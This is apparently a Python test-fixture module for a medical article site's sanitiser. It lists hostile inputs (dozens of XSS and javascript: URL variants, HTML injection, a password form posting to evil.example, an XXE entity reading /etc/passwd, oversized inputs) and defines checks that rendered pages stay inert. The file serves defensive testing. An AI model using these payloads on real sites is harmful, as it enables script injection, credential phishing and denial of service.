"""Hostile texts of our own, the places of an article they can stand in, and what a page must be after them."""

import re
from collections.abc import Callable, Collection
from html import unescape
from html.parser import HTMLParser

ALERT = "alert(1)"

# One address in every spelling that some browser or parser has once taken for a script, or that is simply not ours.
_ADDRESSES = {
    "plain": f"javascript:{ALERT}",
    "mixed-case": f"JaVaScRiPt:{ALERT}",
    "entity-letter": f"java&#115;cript:{ALERT}",
    "entity-hexadecimal": f"&#x6A;avascript:{ALERT}",
    "entity-padded": f"&#0000106&#0000097vascript:{ALERT}",
    "entity-without-semicolon": f"&#106avascript:{ALERT}",
    "entity-colon": f"javascript&colon;{ALERT}",
    "entity-nested": f"java&amp;#115;cript:{ALERT}",
    "entity-nested-twice": f"java&amp;amp;#115;cript:{ALERT}",
    "entity-tab": f"java&Tab;script:{ALERT}",
    "entity-newline": f"java&NewLine;script:{ALERT}",
    "entity-number-newline": f"java&#10;script:{ALERT}",
    "tab": f"java\tscript:{ALERT}",
    "newline": f"java\nscript:{ALERT}",
    "carriage-return": f"java\rscript:{ALERT}",
    "leading-space": f" javascript:{ALERT}",
    "leading-control": f"\x01javascript:{ALERT}",
    "leading-entity-control": f"&#1;javascript:{ALERT}",
    "leading-nul": f"\x00javascript:{ALERT}",
    "leading-no-break-space": f"\xa0javascript:{ALERT}",
    "leading-byte-order-mark": f"\ufeffjavascript:{ALERT}",
    "zero-width": f"java\u200bscript:{ALERT}",
    "soft-hyphen": f"java\u00adscript:{ALERT}",
    "full-width": f"ｊavascript:{ALERT}",
    "full-width-colon": f"javascript：{ALERT}",
    "percent": f"javascript%3A{ALERT}",
    "percent-letters": f"%6A%61vascript:{ALERT}",
    "unicode-escape": f"\\u006aavascript:{ALERT}",
    "backslash-colon": f"javascript\\:{ALERT}",
    "comment": f"javascript://%0a{ALERT}",
    "with-host": f"javascript://example.org/%0a{ALERT}",
    "view-source": f"view-source:javascript:{ALERT}",
    "feed": f"feed:javascript:{ALERT}",
    "vbscript": "vbscript:msgbox(1)",
    "livescript": f"livescript:{ALERT}",
    "data-html": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-svg": "data:image/svg+xml,<svg onload=alert(1)>",
    "data-upper": f"DATA:text/html,<script>{ALERT}</script>",
    "blob": "blob:https://example.org/1",
    "file": "file:///etc/passwd",
    "about": "about:blank",
    "relative": "/admin/logout/",
    "protocol-relative": "//evil.example",
    "backslash-host": "https:\\\\evil.example",
    "fragment": "#references",
    "query": "?next=//evil.example",
    "user-before-host": "https://nih.gov@evil.example/",
    "quote-breaks-out": 'https://example.org/"onmouseover="alert(1)',
    "tag-breaks-out": f"https://example.org/'><script>{ALERT}</script>",
    "mailto-headers": "mailto:a@example.org?bcc=b@example.org&body=x",
    "mailto-newline": "mailto:a@example.org%0ABcc:b@example.org",
    "empty-host": "https://",
    "host-percent": "https://%65vil.example/",
    "host-not-ascii": "https://еxample.org/",
    "port-no-number": "https://example.org:javascript/",
    "bracket-host": "https://[evil/",
}

_WRAPPED = {
    "link": "[a word]({0})",
    "link-angle": "[a word](<{0}>)",
    "autolink": "<{0}>",
    "definition": "[a word][r]\n\n[r]: {0}",
}

_TEXTS = {
    # Elements and handlers
    "script": f"<script>{ALERT}</script>",
    "script-block": f"before\n\n<script>\n{ALERT}\n</script>\n\nafter",
    "script-in-list": f"- <script>{ALERT}</script>",
    "script-in-quotation": f"> <script>{ALERT}</script>",
    "script-in-heading": f"# <script>{ALERT}</script>",
    "script-in-code": f"`<script>{ALERT}</script>`",
    "script-in-table": f"|<script>{ALERT}</script>|b|\n|-|-|\n|<img src=x onerror={ALERT}>|2|",
    "script-unclosed": f"<script>{ALERT}",
    "script-split": f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    "script-slash": f"<script/src=//evil.example>{ALERT}</script >",
    "script-entities": f"&lt;script&gt;{ALERT}&lt;/script&gt;",
    "script-entities-twice": f"&amp;lt;script&amp;gt;{ALERT}",
    "script-entities-numbers": f"&#60;script&#62;{ALERT}&#60;/script&#62;",
    "script-full-width": f"＜script＞{ALERT}＜/script＞",
    "script-escaped-marks": f"\\<script\\>{ALERT}\\</script\\>",
    "image-handler": f"<img src=x onerror={ALERT}>",
    "image-handler-slashes": f"<img/src=x/onerror={ALERT}//",
    "body-handler": f"<body onload={ALERT}>",
    "handler-newline": f"<a href=#\nonclick\n=\n{ALERT}>x</a>",
    "details-handler": f"<details open ontoggle={ALERT}>x</details>",
    "svg": f"<svg onload={ALERT}><script>{ALERT}</script></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values=javascript:{ALERT} /></a></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}></style></mglyph></table></mtext></math>",
    "mathml-link": f"<math href='javascript:{ALERT}'>x</math>",
    "style": "<style>*{display:none}</style>",
    "style-attribute": "<p style='position:fixed;inset:0'>x</p>",
    "style-import": "<style>@import '//evil.example/a.css'</style>",
    "link-element": "<link rel=stylesheet href=//evil.example/a.css>",
    "iframe": "<iframe src=//evil.example></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>{ALERT}</script>'>",
    "object": f"<object data='javascript:{ALERT}'></object>",
    "embed": "<embed src=//evil.example>",
    "form": "<form action=//evil.example><input name=password><button>Sign</button></form>",
    "button-formaction": f"<button formaction=javascript:{ALERT}>x</button>",
    "base": "<base href=//evil.example/>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url=javascript:{ALERT}'>",
    "template": f"<template><script>{ALERT}</script></template>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>",
    "textarea": f"<textarea></p><img src=x onerror={ALERT}></textarea>",
    "title-element": f"<title><img src=x onerror={ALERT}></title>",
    "plaintext": "<plaintext>everything after this",
    "frameset": "<frameset><frame src=//evil.example></frameset>",
    "comment": f"<!-- --!><img src=x onerror={ALERT}> -->",
    "comment-unclosed": "<!-- hides the rest of the page",
    "comment-conditional": f"<!--[if IE]><script>{ALERT}</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{ALERT}</script>]]>",
    "processing-instruction": f"<?xml version='1.0'?><?php {ALERT} ?>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "closes-our-elements": "</p></div></section></article></main></body></html><h1>Approved</h1>",
    "closes-half": "</span></a></li>",
    "unclosed-tag": "<div <p <a href=",
    "unclosed-attribute": '<a href="x',
    "template-syntax": "{{ request.user.password }} {% load x %} ${7*7} <%= 7*7 %>",
    # Names
    "id-clobbers-references": "<p id=references>x</p>",
    "id-attribute-list": "A heading {#references .contents onclick=alert(1)}\n===",
    "heading-attribute-list": "# Heading {: #references onclick=alert(1) }",
    "name-clobbers": "<a name=cookie></a><form name=body></form><img name=getElementById>",
    "class-clobbers": "<p class='glossary section-guidelines'>Approved</p>",
    "fake-badge": "<div class=badge>Reviewed and approved by the Medical Advisory Board</div>",
    "toc": "[TOC]\n\n# references\n\n# references",
    "footnote": "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "abbreviation": "*[HTML]: <script>alert(1)</script>\n\nHTML",
    # Links and images
    "link-title": "[a](https://example.org '\"onmouseover=alert(1) x=\"')",
    "link-title-tag": f'[a](https://example.org "</a><script>{ALERT}</script>")',
    "link-title-entities": '[a](https://example.org "&quot; onclick=&quot;alert(1)")',
    "link-text-tag": f"[<img src=x onerror={ALERT}>](https://example.org)",
    "link-in-link": f"[a [b](https://example.org) <https://c.example>](javascript:{ALERT})",
    "link-nested-good": "[<https://example.org>](https://example.com)",
    "link-escaped-target": f"[a](javascript\\:{ALERT})",
    "link-code-target": f"[a](java`script`:{ALERT})",
    "link-emphasis-target": f"[a](java*script*:{ALERT})",
    "image": f"![a word](javascript:{ALERT})",
    "image-remote": "![a word](https://tracker.example/x.png)",
    "image-alt-tag": f"![<script>{ALERT}</script>](x)",
    "image-alt-quote": '![" onerror="alert(1)](x)',
    "image-reference": f"![a word][r]\n\n[r]: javascript:{ALERT}",
    "image-in-link": f"[![a](x)](javascript:{ALERT})",
    "definition-title": f'[a][r]\n\n[r]: https://example.org "\'><script>{ALERT}</script>"',
    "definition-takes-citation": "[@a]: https://evil.example\n\n[@a]",
    "automail": '<a"onclick=alert(1)@example.org>',
    "automail-entities": "<&#106;avascript:alert(1)@example.org>",
    # Citation keys
    "key-tag": "[@<script>alert(1)</script>]",
    "key-quote": '[@a" onmouseover="alert(1)]',
    "key-apostrophe": "[@a' onmouseover='alert(1)]",
    "key-long": "[@" + "a" * 5_000 + "]",
    "key-lists-empty": "[@a;;;@b] [@;@] [@] [@ a]",
    "key-nested": "[@a [@b] [@c]] [[@a]] [@[@a]]",
    "key-unclosed": "[@a; @b",
    "key-in-link": "[see [@a]](https://example.org) [[@a]](https://example.org)",
    "key-as-link": f"[@a](javascript:{ALERT}) [@a][r]\n\n[r]: javascript:{ALERT}",
    "key-in-target": "[x](https://example.org/[@a]) ![[@a]](x) <https://example.org/[@a]>",
    "key-in-code": "`[@a]`\n\n    [@a]",
    "key-in-heading": "# A heading [@a] [@missing]\n\n## [@a]",
    "key-dunder": "[@__proto__] [@constructor] [@a.__class__]",
    "key-entity": "[&#64;a] [@&#97;] &#91;@a]",
    "key-line-break": "[@a;\n@b]\n[@a]",
    "key-not-ascii": "[@é] [@ａ] [@a\u200b]",
    "key-many": "[@a]" * 300,
    # The parser's own placeholders
    "placeholder-inline": "\x02klzzwxh:0000\x03 `code`",
    "placeholder-html": "\x02wzxhzdk:0\x03 <b>x</b>",
    "placeholder-amp": "\x02amp\x03lt;script\x02amp\x03gt;",
    "placeholder-character": "\x0260\x03script\x0262\x03",
    "placeholder-huge": "\x0299999999999\x03",
    "placeholder-words": "klzzwxh:0001 wzxhzdk:0 STX klzzwxh:0000 ETX `x`",
    "placeholder-entity": "&#2;klzzwxh:0000&#3; `x` &#x2;60&#x3;",
    "placeholder-in-alt": "![*a* `b` [c](https://example.org)](x)",
    # Characters
    "nul": "a\x00b<scr\x00ipt>alert(1)</scr\x00ipt>",
    "controls": "".join(map(chr, range(1, 9))) + "\x0b\x0c\x0e\x1b\x7f\x80\x9f",
    "entity-controls": "".join(f"&#{number};" for number in (0, 1, 2, 3, 8, 11, 27, 127, 128, 159)),
    "surrogate": "a\ud800b",
    "surrogate-entity": "&#xD800; &#x110000; &#xFFFE; &#99999999999;",
    "noncharacter": "a\ufffeb\uffff",
    "bidi-override": "take \u202e001\u202c mg",
    "bidi-isolate": "take \u2066100\u2069 mg",
    "zero-width": "pa\u200bin \u200d\u2060\ufeff",
    "line-separators": "a\u2028b\u2029c\x85d",
    "combining": "a" + "\u0301" * 2_000,
    "carriage-returns": "a\rb\r\nc\n\r",
    "emoji": "👩‍⚕️ 🏳️‍🌈",
    # Size and depth
    "brackets": "[" * 20_000,
    "brackets-at-limit": "[" * 1_000,
    "brackets-closing": "]" * 20_000,
    "brackets-pairs": "[]" * 10_000,
    "brackets-nested": "[" * 500 + "a" + "]" * 500,
    "links-unclosed": "[a](" * 5_000,
    "images-unclosed": "![[" * 5_000,
    "parentheses": "[a](" + "(" * 2_900,
    "stars": "*" * 50_000,
    "stars-words": "*a" * 10_000,
    "stars-at-limit": "*a " * 300 + "**b" * 300,
    "stars-mixed": "*a_b" * 400,
    "underscores": "_" * 50_000,
    "emphases-deep": "*a **b " * 300 + "c** d* " * 10,
    "backticks": "`" * 50_000,
    "backticks-growing": " ".join("`" * length for length in range(1, 31)),
    "less-than": "<" * 50_000,
    "ampersands": "&" * 50_000,
    "entities": "&amp;" * 10_000,
    "backslashes": "\\" * 50_000,
    "pipes": "|" * 50_000,
    "table-wide": "|a" * 1_000 + "\n" + "|-" * 1_000 + "\n" + "a\n" * 1_000,
    "table-long": "|a|b|\n|-|-|\n" + "|1|2|\n" * 20_000,
    "lists-nested": "\n".join("  " * depth + "- a" for depth in range(10_000)),
    "lists-nested-moderately": "\n".join("  " * depth + "- a" for depth in range(150)),
    "lists-on-a-line": "- " * 10_000 + "a",
    "lists-ordered-on-a-line": "1. " * 5_000 + "a",
    "list-items": "- a\n" * 20_000,
    "list-number-huge": "9" * 5_000 + ". a",
    "quotations-nested": ">" * 10_000 + " a",
    "quotations-nested-spaced": "> " * 300 + "a",
    "headings": "# a\n" * 10_000,
    "headings-empty": "#\n##\n###",
    "definitions": "".join(f"[r{number}]: https://example.org\n" for number in range(5_000)),
    "definition-quotes": "[r]: " + '"' * 9_000 + "x",
    "line-megabyte": "a" * 1_000_000,
    "spaces-megabyte": " " * 1_000_000,
    "newlines": "\n" * 1_000_000,
    "tabs": "\t" * 59_000,
    "rules": "- - - - - - - - - - - - - - - -\n* * *\n___",
    "rule-almost": "-" * 9_000 + "x",
    # Glossary
    "term-script": "script",
    "term-tag": "<b>",
    "term-expression": "(.*)+$ [a-z]* a|b \\d",
    "term-overlapping": "nerve pain nerve pain pain",
    "term-empty": "",
    "term-spaces": "   ",
    "term-markup": "**pain** [@a] `pain`",
}

SAMPLES: dict[str, str] = (
    _TEXTS
    | {f"address-{name}": address for name, address in _ADDRESSES.items()}
    | {
        f"{wrapper}-{name}": form.format(address)
        for wrapper, form in _WRAPPED.items()
        for name, address in _ADDRESSES.items()
    }
)
ADDRESSES = _ADDRESSES

# Where a person's words enter an article.
# fmt: off
TEXTS = ("professional", "plain")  # Markdown; the rest are lines of plain text
FIELDS = (
    "heading", "title", "section_key", "kind", "reason", "term", "variant", "wording", "definition", "locator", "quote",
    "csl_id", "csl_title", "csl_author", "csl_given", "csl_group", "csl_journal", "csl_publisher", "csl_pages",
    "csl_date", "csl_day", "csl_doi", "csl_url", "doi", "pmid", "set_id", "label_version", "effective_date",
    "label_title",
)
# fmt: on
PLACES = TEXTS + FIELDS


def content_with(places: str | Collection[str], text: str) -> dict:
    """Return canonical content (schema 1) of an article that holds a text in these places and is harmless elsewhere."""
    chosen = {places} if isinstance(places, str) else set(places)

    def at(name: str, otherwise: str) -> str:
        return text if name in chosen else otherwise

    return {
        "schema": 1,
        "title": at("title", "What helps?"),
        "language": "en",
        "ai": {"declared": True, "used": False, "tool": "", "purpose": ""},
        "sections": _sections(at),
        "citations": [
            _citation("a", _study(at), locator=at("locator", "p 12"), quote=at("quote", "")),
            _citation("b", _label(at)),
            _citation("c", None),
            _citation("d", _report(at)),
        ],
        "glossary": [
            {
                "term": at("term", "nerve pain"),
                "variants": [at("variant", "pain")],
                "plain": at("wording", "what hurts"),
                "definition": at("definition", ""),
            },
            {"term": "script", "variants": ["<b>"], "plain": "", "definition": at("definition", "a word")},
        ],
    }


def assert_inert(html: str) -> None:
    """Assert that a body is nothing but our own elements, attributes, ids and addresses, well formed to the byte.

    It shares nothing with the sanitiser: its own lists, its own tokens; what it cannot read is a fault.
    """
    open_tags: list[str] = []
    ids: set[str] = set()
    position = 0
    while position < len(html):
        token = _TOKEN.match(html, position)
        assert token, f"not HTML as we write it: {html[position : position + 80]!r}"
        position = token.end()
        if token["close"]:
            assert open_tags, f"closes what is not open: {token[0]}"
            assert open_tags.pop() == token["close"], f"closes another element: {token[0]}"
        elif token["open"]:
            assert token["open"] in _ELEMENTS, f"element {token['open']}"
            _assert_attributes(token["open"], token["attributes"], ids)
            if token["open"] not in ("br", "hr"):
                open_tags.append(token["open"])
    assert not open_tags, f"left open: {open_tags}"


def assert_inert_page(html: str) -> None:
    """Assert of a whole page, ours around it, that nothing on it runs, loads, posts or hides what a text brought."""
    reader = _PageReader()
    reader.feed(html)
    reader.close()
    assert not reader.faults, reader.faults


# fmt: off
_ELEMENTS = {
    "section", "nav", "div", "p", "span", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "a", "em", "strong", "code",
    "pre", "blockquote", "figure", "figcaption", "table", "thead", "tbody", "tr", "th", "td", "br", "hr", "dfn",
}
# fmt: on
_TOKEN = re.compile(
    "(?P<text>(?:[^<>&\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]|&(?:amp|lt|gt|nbsp);)+)"
    r"|</(?P<close>[a-z][a-z0-9]*)>"
    r"|<(?P<open>[a-z][a-z0-9]*)(?P<attributes>(?: [a-z-]+=\"[^\"<>\x00-\x08\x0b-\x1f]*\")*)>"
)
_ATTRIBUTE = re.compile(r' ([a-z-]+)="([^"]*)"')
_ID = re.compile(
    r"section-[0-9a-f]{8}(-\d+)?(-heading)?|contents-heading|references(-heading)?|reference-\d+|citation-\d+-\d+"
)
_ATTRIBUTES = {
    "id": _ID,
    "aria-labelledby": _ID,
    "class": re.compile(r"[a-z]+(-[a-z]+)*( [a-z]+(-[a-z]+)*)*"),
    "href": re.compile(
        r"#section-[0-9a-f]{8}(-\d+)?|#references|#reference-\d+|#citation-\d+-\d+"
        r"|https?://[a-z0-9.-]+(:\d+)?([/?#][!-~]*)?|mailto:[A-Za-z0-9._+-]+@[A-Za-z0-9.-]+"
    ),
    "rel": re.compile(r"nofollow noopener noreferrer"),
    "role": re.compile(r"region|note"),
    "tabindex": re.compile(r"0"),
    "scope": re.compile(r"col"),
    "start": re.compile(r"\d{1,9}"),
    "title": re.compile(r".*", re.DOTALL),
    "aria-label": re.compile(r".*", re.DOTALL),
}


def _assert_attributes(tag: str, attributes: str, ids: set[str]) -> None:
    found = {name: unescape(value) for name, value in _ATTRIBUTE.findall(attributes)}
    for name, value in found.items():
        assert name in _ATTRIBUTES, f"attribute {name} on {tag}"
        assert _ATTRIBUTES[name].fullmatch(value), f"value of {name}: {value!r}"
    if "id" in found:
        assert found["id"] not in ids, f"id twice: {found['id']}"
        ids.add(found["id"])
    if tag == "a" and not found.get("href", "#").startswith("#"):
        assert found.get("rel") == "nofollow noopener noreferrer", "a link out of the site without rel"


class _PageReader(HTMLParser):
    """Collects what no page of the site may hold, whoever wrote it."""

    _ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "xlink:href"}
    _NEVER = {"iframe", "object", "embed", "base", "frame", "frameset", "applet", "portal", "plaintext", "xmp", "math"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._ids: set[str] = set()
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in self._NEVER:
            self.faults.append(f"element {tag}")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.faults.append("meta refresh")
        for name, value in values.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.faults.append(f"attribute {name} on {tag}")
            if name in self._ADDRESSES and not _is_harmless(value):
                self.faults.append(f"address {value!r} on {tag}")
        if (identifier := values.get("id")) is not None:
            if identifier in self._ids:
                self.faults.append(f"id twice: {identifier}")
            self._ids.add(identifier)
        self._in_script = tag == "script"

    def handle_data(self, data: str) -> None:
        if self._in_script and ALERT in data:
            self.faults.append("a script of a text")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


def _is_harmless(address: str) -> bool:
    squeezed = re.sub(r"[\x00-\x20]", "", address).lower()
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", squeezed)
    return scheme is None or scheme[1] in ("http", "https", "mailto")


def _sections(at: Callable[[str, str], str]) -> list[dict]:
    return [
        {
            "key": at("section_key", "aaaaaaaa-0000-4000-8000-000000000001"),
            "kind": at("kind", "guidelines"),
            "heading": at("heading", "From the Guidelines"),
            "professional": at("professional", "Pain of the nerves [@a; @d], `<b>` and script [@b]."),
            "plain": at("plain", "Pain of a nerve, script, <b> and nerve pain [@a; @d]."),
            "plain_missing_reason": "",
        },
        {
            "key": "aaaaaaaa-0000-4000-8000-000000000002",
            "kind": "drug_label",
            "heading": "From the FDA Drug Label",
            "professional": at("professional", "> The dose is 75 mg [@b].\n\nPain [@missing]."),
            "plain": "",
            "plain_missing_reason": at("reason", "The label has no plain wording."),
        },
    ]


def _citation(key: str, source: dict | None, *, locator: str = "", quote: str = "") -> dict:
    return {"key": key, "use": "relied_on", "locator": locator, "quote": quote, "source": source}


def _source(kind: str, **facts: object) -> dict:
    empty = {"level": "", "doi": "", "pmid": "", "set_id": "", "label_version": "", "effective_date": ""}
    return {"kind": kind, **empty, "marketing_category": "", **facts}


def _study(at: Callable[[str, str], str]) -> dict:
    csl = {
        "id": at("csl_id", "study"),
        "type": "article-journal",
        "title": at("csl_title", "A study of <i>pain</i>"),
        "author": [{"family": at("csl_author", "Family"), "given": at("csl_given", "Gina Inez")}],
        "container-title-short": at("csl_journal", "J Pain"),
        "issued": {"literal": at("csl_date", "2020")},
        "volume": "12",
        "page": at("csl_pages", "45-50"),
        "DOI": at("csl_doi", "10.1000/182"),
    }
    return _source("study", doi=at("doi", ""), pmid=at("pmid", "123"), csl=csl)


def _report(at: Callable[[str, str], str]) -> dict:
    csl = {
        "id": "report",
        "type": "report",
        "title": "A guideline",
        "author": [{"literal": at("csl_group", "A society")}],
        "publisher": at("csl_publisher", "A society"),
        "accessed": {"date-parts": [[2025, 6, at("csl_day", "10")]]},
        "URL": at("csl_url", "https://example.org/guideline"),
    }
    return _source("guideline", csl=csl)


def _label(at: Callable[[str, str], str]) -> dict:
    return _source(
        "drug_label",
        set_id=at("set_id", "0cc5a3a2-1a2b-4c3d-8e4f-0123456789ab"),
        label_version=at("label_version", "12"),
        effective_date=at("effective_date", "2025-03-01"),
        csl={"id": "label", "title": at("label_title", "Lyrica (pregabalin)"), "publisher": "Viatris"},
    )
